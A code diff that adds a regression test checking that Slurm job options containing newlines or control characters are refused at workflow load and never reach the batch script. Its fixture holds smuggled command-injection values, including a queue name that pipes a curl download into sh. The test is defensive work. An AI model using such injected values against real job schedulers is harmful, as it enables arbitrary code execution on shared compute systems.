@@ -462,3 +462,36 @@ def test_manifest_file_names_cannot_write_or_read_outside_the_cache(fault_server
         authorities.local_files(m, tmp_path / "tcache" / "taxonomy")
     assert not (tmp_path / "tcache" / "downloads").exists()
 
+
+# ------------------------------------------------------------------------------------- issue 18 item 6
+def test_jobqueue_options_with_control_characters_are_refused_at_load(tmp_path):
+    """dask-jobqueue writes [cluster] jobqueue_options into the batch script as they are: a newline in job_name
+    or queue made a line of its own, a command (and Slurm stops reading #SBATCH after the first command).
+    Refused at load, every such key named; the options themselves still pass as written."""
+    from tol_builder.cluster import jobqueue_cluster
+    from tol_builder.config import ClusterConfig
+
+    marker = tmp_path / "pwned"
+    wf = _workflow(tmp_path, "[cluster]\njobqueue = \"slurm\"\n[cluster.jobqueue_options]\n"
+                   f'job_name = "tol\\ntouch {marker} #"\nqueue = "gpu\\rcurl http://127.0.0.1:1/x | sh #"\n'
+                   'walltime = "01:00:00"\njob_extra_directives = ["--constraint=avx2", "--comment=a\\u001bb"]\n'
+                   'scheduler_options = { "interface\\n" = "lo" }\n')
+    with pytest.raises(ConfigError) as e:
+        load_workflow(wf)
+    keys = {k for k, _, _ in e.value.problems}
+    assert str(wf) in str(e.value) and "control characters" in str(e.value)
+    assert keys == {f"cluster.jobqueue_options.{k}" for k in (
+        "job_name", "queue", "job_extra_directives[1]", "scheduler_options.interface\\n")}
+    assert not marker.exists()
+    # a ClusterConfig built in code is checked again before any job script is made
+    with pytest.raises(ConfigError, match=r"cluster\.jobqueue_options\.job_name"):
+        jobqueue_cluster(ClusterConfig(jobqueue="slurm", jobqueue_options={"job_name": "tol\necho hi"}))
+    # plain values load and reach the script as written
+    ok = load_workflow(_workflow(tmp_path, "[cluster]\njobqueue = \"slurm\"\n[cluster.jobqueue_options]\n"
+                                 'job_name = "tol-build"\nqueue = "gpu"\njob_extra_directives = ["--comment=a b"]\n'))
+    cluster = jobqueue_cluster(ok.cluster)
+    try:
+        script = cluster.job_script()
+    finally:
+        cluster.close()
+    assert "#SBATCH -J tol-build" in script and "#SBATCH -p gpu" in script and "#SBATCH --comment=a b" in script
